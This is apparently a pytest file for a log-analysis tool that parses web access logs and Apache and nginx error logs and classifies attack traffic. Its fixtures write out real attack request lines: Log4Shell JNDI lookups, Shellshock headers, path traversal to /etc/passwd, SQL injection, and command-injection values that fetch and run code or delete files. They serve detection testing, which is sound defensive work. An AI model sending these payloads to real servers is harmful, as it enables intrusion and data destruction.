"""Web server logs: access logs (weblog), the Apache error log and the nginx error log."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.unit.evidence.conformance import CTX, assert_accounted, records_of
from wuzhen.evidence import parsers
from wuzhen.evidence.parsers._base import ParseContext, Parser, ParseResult

WEBLOG = parsers.get("weblog")
APACHE = parsers.get("apache-error")
NGINX = parsers.get("nginx-error")
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)


def parse(parser: Parser, lines: list[str], ctx: ParseContext = CTX) -> ParseResult:
    records = records_of(lines)
    result = parser.parse(records, None, ctx)
    assert_accounted(records, result)
    return result


def event(parser: Parser, line: str, ctx: ParseContext = CTX) -> dict[str, Any]:
    result = parse(parser, [line], ctx)
    assert result.events.height == 1, (result.skipped, result.rejects)
    row: dict[str, Any] = result.events.row(0, named=True)
    return row


def outcome(parser: Parser, line: str) -> str:
    """The event's identifier, or the skip or reject reason."""
    result = parse(parser, [line])
    if result.events.height:
        return str(result.events["classification.identifier"][0])
    if result.skipped.height:
        return str(result.skipped["reason"][0])
    return "reject: " + str(result.rejects["reason"][0])


def combined(
    request: str,
    status: int = 404,
    ua: str = BROWSER,
    referer: str = "-",
    client: str = "203.0.113.9",
    size: str = "196",
) -> str:
    return (
        f'{client} - - [28/Nov/2026:06:25:11 +0100] "{request}" {status} {size} "{referer}" "{ua}"'
    )


# -- access logs ---------------------------------------------------------------------------


def test_combined_line_maps_every_field() -> None:
    row = event(
        WEBLOG,
        combined(
            "GET /index.php?page=..%2F..%2Fetc%2Fpasswd HTTP/1.1",
            status=200,
            referer="https://www.example.org/news/?id=7",
            client="45.148.10.81",
            size="5121",
        ),
    )
    assert row["time.source"] == datetime(2026, 11, 28, 5, 25, 11, tzinfo=UTC)
    assert row["source.ip"] == "45.148.10.81"
    assert row["source.fqdn"] is None
    assert row["destination.urlpath"] == "/index.php?page=..%2F..%2Fetc%2Fpasswd"
    assert row["destination.fqdn"] is None
    assert (row["protocol.transport"], row["protocol.application"]) == ("tcp", "http")
    assert (row["classification.type"], row["classification.identifier"]) == (
        "exploit",
        "http:path-traversal",
    )
    assert json.loads(row["extra"]) == {
        "method": "GET",
        "status": 200,
        "bytes": 5121,
        "http_version": "HTTP/1.1",
        "user_agent": BROWSER,
        "referrer_host": "www.example.org",
    }


def test_user_name_and_ident_are_not_kept() -> None:
    line = '192.0.2.45 ident42 frank [10/Oct/2000:13:55:36 -0700] "GET /.env HTTP/1.0" 404 -'
    row = event(WEBLOG, line)
    assert "frank" not in row["extra"]
    assert "ident42" not in row["extra"]
    assert row["time.source"] == datetime(2000, 10, 10, 20, 55, 36, tzinfo=UTC)
    assert json.loads(row["extra"]) == {"method": "GET", "status": 404, "http_version": "HTTP/1.0"}


def test_vhost_prefix_gives_the_destination() -> None:
    line = "www.example.org:443 " + combined("GET /wp-admin/install.php HTTP/1.1")
    row = event(WEBLOG, line)
    assert (row["destination.fqdn"], row["destination.port"]) == ("www.example.org", 443)
    assert row["source.ip"] == "203.0.113.9"
    assert row["classification.identifier"] == "http:app-probe"


@pytest.mark.parametrize("client", ["45.155.205.233", "2a06:4880:9000::57"])
def test_a_vhost_prefix_without_its_port(client: str) -> None:
    # SUSE's vhost_combined and Apache's vhost_common, "%v %h %l %u ...": a tester found the
    # owner's own virtual host taken for the attacker, and the client's address lost
    line = "www.example.org " + combined("GET /.env HTTP/1.1", client=client)
    row = event(WEBLOG, line)
    assert (row["source.ip"], row["source.fqdn"]) == (client, None)
    assert (row["destination.fqdn"], row["destination.port"]) == ("www.example.org", None)
    # a client's host name with its identd's "-" stays the client
    named = event(WEBLOG, combined("GET /.env HTTP/1.1", client="ws-4.example.net"))
    assert (named["source.fqdn"], named["destination.fqdn"]) == ("ws-4.example.net", None)


def test_ipv6_and_host_name_clients() -> None:
    v6 = event(WEBLOG, combined("GET /.git/config HTTP/1.1", client="2a06:4880:9000::57"))
    assert v6["source.ip"] == "2a06:4880:9000::57"
    named = event(WEBLOG, combined("GET /.git/config HTTP/1.1", client="ws-4.example.net"))
    assert (named["source.ip"], named["source.fqdn"]) == (None, "ws-4.example.net")
    bracketed = event(WEBLOG, combined("GET /.git/config HTTP/1.1", client="[2001:db8::33]"))
    assert (bracketed["source.ip"], bracketed["source.fqdn"]) == ("2001:db8::33", None)


def test_user_agent_is_cut_and_escaped_quotes_are_read() -> None:
    row = event(WEBLOG, combined('GET /search?q=\\"x\\" union select 1 HTTP/1.1', ua="A" * 900))
    assert row["classification.identifier"] == "http:sql-injection"
    assert row["destination.urlpath"] == '/search?q=\\"x\\" union select 1'
    assert json.loads(row["extra"])["user_agent"] == "A" * 512


def test_a_last_field_cut_before_its_quote_is_read() -> None:
    line = combined("GET / HTTP/1.1", status=200, ua="Mozilla/5.0 zgrab/0.x")[:-1]
    assert not line.endswith('"')
    row = event(WEBLOG, line)
    assert row["classification.identifier"] == "http:scanner-ua"
    assert json.loads(row["extra"])["user_agent"] == "Mozilla/5.0 zgrab/0.x"


def test_proxy_targets_are_not_url_paths() -> None:
    row = event(WEBLOG, combined("CONNECT www.google.com:443 HTTP/1.1", status=400))
    assert row["destination.urlpath"] is None
    assert json.loads(row["extra"])["proxy_target"] == "www.google.com:443"
    # "*" (OPTIONS *, an asterisk-form target) names the server itself, no proxy target
    row = event(WEBLOG, combined("OPTIONS * HTTP/1.1", status=200, ua="sqlmap/1.8"))
    assert "proxy_target" not in json.loads(row["extra"])


@pytest.mark.parametrize(
    ("request_line", "status", "ua", "expected"),
    [
        ("GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1", 200, BROWSER, "http:log4shell"),
        ("GET / HTTP/1.1", 200, "${${lower:j}ndi:ldap://198.51.100.1/a}", "http:log4shell"),
        ("GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D HTTP/1.1", 200, BROWSER, "http:log4shell"),
        ("GET /cgi-bin/test.cgi HTTP/1.1", 200, "() { :; }; /bin/bash -c id", "http:shellshock"),
        ("GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1", 400, BROWSER, "http:path-traversal"),
        ("GET /a/%252e%252e/%252e%252e/etc/hosts HTTP/1.1", 404, BROWSER, "http:path-traversal"),
        ("GET /%c0%ae%c0%ae/%c0%ae%c0%ae/x HTTP/1.1", 404, BROWSER, "http:path-traversal"),
        (
            "GET /scripts/..%5c../winnt/system32/cmd.exe HTTP/1.0",
            404,
            BROWSER,
            "http:path-traversal",
        ),
        ("GET /p.php?id=1%27%20or%20%271%27=%271 HTTP/1.1", 200, BROWSER, "http:sql-injection"),
        ("GET /p.php?id=1+UNION+ALL+SELECT+NULL-- HTTP/1.1", 200, BROWSER, "http:sql-injection"),
        ("GET /p.php?id=1%20AND%20SLEEP(5) HTTP/1.1", 200, BROWSER, "http:sql-injection"),
        ("GET /p?x=1;wget+http://a/b;sh+b HTTP/1.1", 404, BROWSER, "http:command-injection"),
        ("GET /ping?h=127.0.0.1%26%26id HTTP/1.1", 200, BROWSER, "http:command-injection"),
        (
            "GET /ping?h=127.0.0.1+%26+whoami+%26+id HTTP/1.1",
            200,
            BROWSER,
            "http:command-injection",
        ),
        ("GET /x?a=$(curl+http://a/b) HTTP/1.1", 200, BROWSER, "http:command-injection"),
        ("GET /x?a=1|uname+-a HTTP/1.1", 200, BROWSER, "http:command-injection"),
        (
            "POST /icons/.%%32%65/.%%32%65/.%%32%65/bin/sh HTTP/1.1",  # CVE-2021-42013
            500,
            BROWSER,
            "http:path-traversal",
        ),
        ("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1", 404, "Hello, world", "http:command-injection"),
        # regression: the rule anchored /shell? at the start of the request line, after the
        # method, where it never was
        ("GET /shell?cd+/tmp HTTP/1.1", 404, "Hello, world", "http:iot-exploit"),
        (
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
            404,
            BROWSER,
            "http:phpunit-rce",
        ),
        (
            "GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1",
            404,
            BROWSER,
            "http:thinkphp-rce",
        ),
        ("POST /?-d+allow_url_include%3d1 HTTP/1.1", 404, BROWSER, "http:php-cgi-injection"),
        ("GET /boaform/admin/formLogin HTTP/1.0", 404, BROWSER, "http:iot-exploit"),
        ("POST /HNAP1/ HTTP/1.1", 404, BROWSER, "http:iot-exploit"),
        ("POST /GponForm/diag_Form?images/ HTTP/1.1", 404, BROWSER, "http:iot-exploit"),
        ("POST /wls-wsat/CoordinatorPortType HTTP/1.1", 404, BROWSER, "http:weblogic-exploit"),
        ("GET /scripts/root.exe?/c+dir HTTP/1.0", 404, BROWSER, "http:iis-exploit"),
        ("POST /wp-login.php HTTP/1.1", 200, BROWSER, "http:wp-login-brute-force"),
        ("POST /blog/wp-login.php HTTP/1.1", 404, BROWSER, "http:wp-login-brute-force"),
        ("POST /xmlrpc.php HTTP/1.1", 200, BROWSER, "http:xmlrpc-brute-force"),
        ("-", 408, "-", "http:empty-request"),
        ("", 400, "-", "http:empty-request"),
        ("\\x16\\x03\\x01\\x02\\x00\\x01", 400, "-", "http:tls-handshake"),
        ("\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr", 400, "-", "http:binary-request"),
        ("HELP", 400, "-", "http:malformed-request"),
        ("get / HTTP/1.1", 400, "-", "http:malformed-request"),
        ("SSTP_DUPLEX_POST /sra_{BA195980}/ HTTP/1.1", 400, "-", "http:unknown-method"),
        ("GET /.env HTTP/1.1", 404, BROWSER, "http:sensitive-file"),
        ("GET /.git/HEAD HTTP/1.1", 200, BROWSER, "http:sensitive-file"),
        ("GET /.aws/credentials HTTP/1.1", 404, BROWSER, "http:sensitive-file"),
        ("GET /wp-config.php.bak HTTP/1.1", 404, BROWSER, "http:sensitive-file"),
        ("GET /wp-login.php HTTP/1.1", 404, BROWSER, "http:app-probe"),
        ("GET /phpmyadmin/index.php HTTP/1.1", 404, BROWSER, "http:app-probe"),
        ("GET /manager/html HTTP/1.1", 401, BROWSER, "http:app-probe"),
        ("GET /solr/admin/info/system HTTP/1.1", 404, BROWSER, "http:app-probe"),
        ("GET /actuator/env HTTP/1.1", 404, BROWSER, "http:app-probe"),
        ("GET /cgi-bin/status HTTP/1.1", 403, BROWSER, "http:app-probe"),
        ("GET /backup.sql HTTP/1.1", 404, BROWSER, "http:script-probe"),
        ("GET /old/index.asp HTTP/1.1", 404, BROWSER, "http:script-probe"),
        ("GET http://azenv.net/ HTTP/1.1", 200, "Go-http-client/1.1", "http:proxy-probe"),
        ("GET / HTTP/1.1", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)", "http:scanner-ua"),
        ("GET / HTTP/1.1", 200, "Mozilla/5.00 (Nikto/2.1.6)", "http:scanner-ua"),
        ("GET / HTTP/1.1", 400, "Mozilla/5.0 zgrab/0.x", "http:scanner-ua"),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; CensysInspect/1.1)", "http:scanner-ua"),
        # ordinary requests, whatever their status
        ("GET / HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /old-page.html HTTP/1.1", 404, BROWSER, "normal HTTP request"),
        ("GET /wp-login.php HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /cgi-bin/awstats.pl HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /api/items HTTP/1.1", 500, "python-requests/2.31.0", "normal HTTP request"),
        ("GET /feed.xml HTTP/1.1", 200, "curl/8.4.0", "normal HTTP request"),
        ("GET /blog/?q=union+of+select+friends HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        # "&" between a query's parameters is no shell's (regression: these were exploits)
        ("GET /index.php?option=com_content&id=12 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /page?a=1&uname=bob HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /page?a=1&curl=1&wget=1 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /page?a=1&id HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("GET /music/sleep(deluxe).mp3 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
        ("PROPFIND /dav/ HTTP/1.1", 207, BROWSER, "normal HTTP request"),
        ("PRI * HTTP/2.0", 400, "-", "normal HTTP request"),  # HTTP/2's preface
        (
            "GET /broken/link.php HTTP/1.1",
            404,
            "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://mj12bot.com/)",
            "normal HTTP request",
        ),
        (
            "POST /wp-login.php HTTP/1.1",
            302,
            BROWSER,
            "successful login (redirect after the login form)",
        ),
    ],
)
def test_classification(request_line: str, status: int, ua: str, expected: str) -> None:
    assert outcome(WEBLOG, combined(request_line, status=status, ua=ua)) == expected


def test_types_follow_the_identifiers() -> None:
    rows = parse(
        WEBLOG,
        [
            combined("GET /a/../../etc/passwd HTTP/1.1"),
            combined("POST /wp-login.php HTTP/1.1", status=200),
            combined("GET /.env HTTP/1.1"),
        ],
    ).events.sort("evidence.record")
    assert rows["classification.type"].to_list() == ["exploit", "brute-force", "scanner"]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("not an access log line", "not an access log line"),
        (
            '1.2.3.4 - - [28/Nov/2026:06:25:11 +0100] "GET / HTTP/1.1" 2000 1',
            "not an access log line",
        ),
        ('# failJSON: { "match": true }', "not an access log line"),
        (
            '1.2.3.4 - - [31/Nov/2026:06:25:11 +0100] "GET /.env HTTP/1.1" 404 1',
            "access log line with an unreadable time",
        ),
    ],
)
def test_access_rejects(line: str, reason: str) -> None:
    assert outcome(WEBLOG, line) == "reject: " + reason


def test_access_sniff() -> None:
    lines = [combined("GET / HTTP/1.1", status=200)] * 4
    assert WEBLOG.sniff(lines) == 95
    assert WEBLOG.sniff(["# comment", *lines]) == 95
    assert APACHE.sniff(lines) == 0
    assert NGINX.sniff(lines) == 0
    assert parsers.detect(lines).name == "weblog"


# -- the Apache error log ------------------------------------------------------------------


def test_apache22_line() -> None:
    row = event(
        APACHE,
        "[Sun Dec 04 05:15:09 2005] [error] [client 222.166.160.184] "
        "Directory index forbidden by rule: /var/www/html/",
    )
    assert row["time.source"] == datetime(2005, 12, 4, 5, 15, 9, tzinfo=UTC)
    assert (row["source.ip"], row["source.port"]) == ("222.166.160.184", None)
    assert (row["protocol.transport"], row["protocol.application"]) == ("tcp", "http")
    assert row["classification.type"] == "scanner"
    assert row["classification.identifier"] == "apache:directory-index-forbidden"
    assert json.loads(row["extra"]) == {"level": "error"}


def test_apache24_line_in_the_ingest_time_zone() -> None:
    tokyo = ParseContext(now=CTX.now, timezone="Asia/Tokyo")
    row = event(
        APACHE,
        "[Sat Jul 20 21:37:32.266605 2013] [auth_basic:error] [pid 17512:tid 1401230791] "
        "[client 194.228.20.113:51386] AH01618: user admin not found: /basic/file",
        tokyo,
    )
    assert row["time.source"] == datetime(2013, 7, 20, 12, 37, 32, 266605, tzinfo=UTC)
    assert (row["source.ip"], row["source.port"]) == ("194.228.20.113", 51386)
    assert row["classification.type"] == "brute-force"
    assert "admin" not in row["extra"]
    assert json.loads(row["extra"]) == {"module": "auth_basic", "level": "error", "code": "AH01618"}


def test_apache_ipv6_remote_and_syslog_forms() -> None:
    v6 = event(
        APACHE,
        "[Sat Jul 20 22:11:44.147674 2013] [authz_owner:error] [pid 17540:tid 1] "
        "[client [2001:db8::80da:af6b:8b2c]:51548] AH01637: Authorization of user x to access "
        "/a failed, reason: file owner dan does not match",
    )
    assert (v6["source.ip"], v6["source.port"]) == ("2001:db8::80da:af6b:8b2c", 51548)
    remote = event(
        APACHE,
        "[Mon Nov 06 13:39:56.637868 2023] [auth_basic:error] [pid 3175001:tid 1] "
        "[remote 192.0.2.111:35924] AH01618: user whatever not found: /admin",
    )
    assert remote["source.ip"] == "192.0.2.111"
    syslog = event(
        APACHE,
        "Feb 15 16:23:40 srv httpd/backend1[22034]: [authz_core:error] [pid 22036] "
        "[client 192.0.2.2:59392] AH01630: client denied by server configuration: /home/b/",
    )
    assert syslog["time.source"] == datetime(2026, 2, 15, 16, 23, 40, tzinfo=UTC)
    assert syslog["destination.fqdn"] == "srv"
    assert syslog["classification.identifier"] == "apache:access-denied"


def test_apache_client_quoted_in_a_message_is_not_the_source() -> None:
    row = event(
        APACHE,
        "[Sat Jun 01 02:17:42 2013] [error] [client 192.168.33.1] File does not exist: "
        "/srv/http/site/[client 192.168.0.1] user root not found",
    )
    assert row["source.ip"] == "192.168.33.1"
    assert row["classification.identifier"] == "apache:file-not-found"


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            "AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt",
            "apache:shellshock",
        ),
        ("AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)", "apache:path-traversal"),
        (
            "AH00126: Invalid URI in request GET /static/../../etc/passwd HTTP/1.1",
            "apache:path-traversal",
        ),
        ("Invalid URI in request \\xf9h\\xa9\\xf3", "apache:overflow-attempt"),
        ("request failed: URI too long (longer than 8190)", "apache:overflow-attempt"),
        ("Invalid method in request \\x16\\x03\\x01", "apache:invalid-request"),
        ("request failed: erroneous characters after protocol string: x", "apache:invalid-request"),
        ('user admin: authentication failure for "/a": Password Mismatch', "apache:auth-failure"),
        ("Digest: realm mismatch - got `x' but expected `y'", "apache:auth-failure"),
        ("client used wrong authentication scheme: /basic/file", "apache:auth-failure"),
        ("client denied by server configuration: /var/www/x", "apache:access-denied"),
        ("File does not exist: /var/www/phpmyadmin", "apache:file-not-found"),
        ("script '/var/www/wp-login.php' not found or unable to stat", "apache:script-not-found"),
        (
            "AH02811: stderr from /usr/lib/cgi-bin/luci: script not found or unable to stat",
            "apache:script-not-found",
        ),
        ("AH01071: Got error 'Primary script unknown'", "apache:script-not-found"),
        (
            "File does not exist: /var/www/html/favicon.ico",
            "browser or crawler request for a standard file",
        ),
        (
            "File does not exist: /var/www/robots.txt, referer: http://x/",
            "browser or crawler request for a standard file",
        ),
        (
            "AH02033: No hostname was provided via SNI for a name based virtual host",
            "TLS SNI host name mismatch (not evidence by itself)",
        ),
        (
            "PHP Warning:  mysql_connect(): Too many connections",
            "error-log message not recognised as evidence",
        ),
    ],
)
def test_apache_classification(message: str, expected: str) -> None:
    line = f"[Tue Mar 16 15:39:29 2010] [error] [client 58.179.109.179] {message}"
    assert outcome(APACHE, line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "[Sun Dec 04 04:51:08 2005] [notice] jk2_init() Found child 6725 in scoreboard slot 10",
            "server message without a client address",
        ),
        (
            "[Sun Dec 04 04:47:44 2005] [error] mod_jk child workerEnv in error state 6",
            "server message without a client address",
        ),
        ("Nov 28 06:25:32 web1 CRON[4410]: (root) CMD (true)", "not an Apache message"),
        ("garbage", "reject: not an Apache error log line"),
        ("[Sun Dec 04 04:47:44 2005] no level here", "reject: not an Apache error log line"),
    ],
)
def test_apache_skips_and_rejects(line: str, expected: str) -> None:
    assert outcome(APACHE, line) == expected


# -- the nginx error log -------------------------------------------------------------------


def test_nginx_line_maps_fields() -> None:
    row = event(
        NGINX,
        '2026/11/28 10:02:05 [error] 1022#1022: *3114 open() "/usr/share/nginx/html/wp-login.php" '
        "failed (2: No such file or directory), client: 141.98.11.11, server: shop.example.org, "
        'request: "GET /wp-login.php HTTP/1.1", host: "shop.example.org"',
    )
    assert row["time.source"] == datetime(2026, 11, 28, 10, 2, 5, tzinfo=UTC)
    assert row["source.ip"] == "141.98.11.11"
    assert row["destination.fqdn"] == "shop.example.org"
    assert row["destination.urlpath"] == "/wp-login.php"
    assert (row["classification.type"], row["classification.identifier"]) == (
        "scanner",
        "nginx:file-not-found",
    )
    assert json.loads(row["extra"]) == {"level": "error", "method": "GET"}


def test_nginx_takes_the_last_client() -> None:
    row = event(
        NGINX,
        '2014/04/03 22:20:40 [error] 30708#0: *3 user "test": password mismatch, client: '
        '127.0.0.1, server: test, request: "GET / HTTP/1.1", host: "localhost:8443"": was not '
        'found in "/etc/nginx/.htpasswd", client: 192.0.2.2, server: , request: "GET / HTTP/1.1", '
        'host: "localhost:8443"',
    )
    assert row["source.ip"] == "192.0.2.2"
    assert row["destination.fqdn"] is None
    assert row["classification.type"] == "brute-force"


def test_nginx_syslog_form() -> None:
    row = event(
        NGINX,
        'Nov 28 10:07:00 web1 nginx: 2026/11/28 10:07:00 [error] 1022#1022: *3600 open() "/x/.env" '
        "failed (2: No such file or directory), client: 78.153.140.177, server: _, "
        'request: "GET /.env HTTP/1.1", host: "203.0.113.10"',
    )
    assert row["destination.fqdn"] == "web1"
    assert row["source.ip"] == "78.153.140.177"


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ('user "xyz" was not found in "/var/www/.htpasswd"', "nginx:auth-failure"),
        ("PAM: user 'u' - not authenticated: Authentication failure", "nginx:auth-failure"),
        (
            '"/var/www/site/roundcube/" is not found (2: No such file or directory)',
            "nginx:file-not-found",
        ),
        ("access forbidden by rule", "nginx:access-forbidden"),
        ('limiting requests, excess: 1.852 by zone "one"', "nginx:rate-limited"),
        ('limiting connections by zone "conn_limit"', "nginx:rate-limited"),
        (
            "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share)",
            "nginx:tls-probe",
        ),
        ("client sent invalid method while reading client request line", "nginx:invalid-request"),
        (
            'delaying request, excess: 0.841, by zone "req_limit"',
            "request delayed by a rate limit (within its burst)",
        ),
        (
            'open() "/srv/www/favicon.ico" failed (2: No such file or directory)',
            "browser or crawler request for a standard file",
        ),
        (
            "no user/password was provided for basic authentication",
            "error-log message not recognised as evidence",
        ),
        (
            "connect() failed (111: Connection refused) while connecting to upstream",
            "error-log message not recognised as evidence",
        ),
    ],
)
def test_nginx_classification(message: str, expected: str) -> None:
    line = (
        f"2015/10/29 20:01:02 [error] 256554#0: *99927 {message}, client: 1.2.3.4, "
        'server: example.com, request: "POST /index.htm HTTP/1.0", host: "example.com"'
    )
    assert outcome(NGINX, line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "2026/11/28 10:02:01 [notice] 1021#1021: signal process started",
            "server message without a client address",
        ),
        (
            "host nginx[2833]: 2015/01/21 10:56:10 [error] 2833#0: *1 x, client: 5.7.9.2",
            "reject: not an nginx error log line",
        ),
        (
            "2026/13/28 10:02:01 [error] 1#1: *1 x, client: 5.7.9.2",
            "reject: not an nginx error log line",
        ),
    ],
)
def test_nginx_skips_and_rejects(line: str, expected: str) -> None:
    assert outcome(NGINX, line) == expected


def test_error_log_sniffing() -> None:
    apache = [
        "[Sun Dec 04 04:51:08 2005] [notice] jk2_init() Found child 6725 in scoreboard slot 10"
    ]
    nginx = ["2026/11/28 10:02:01 [notice] 1021#1021: signal process started"]
    assert parsers.detect(apache).name == "apache-error"
    assert parsers.detect(nginx).name == "nginx-error"
    assert APACHE.sniff(nginx) == 0
    assert NGINX.sniff(apache) == 0
    assert WEBLOG.sniff(apache + nginx) == 0
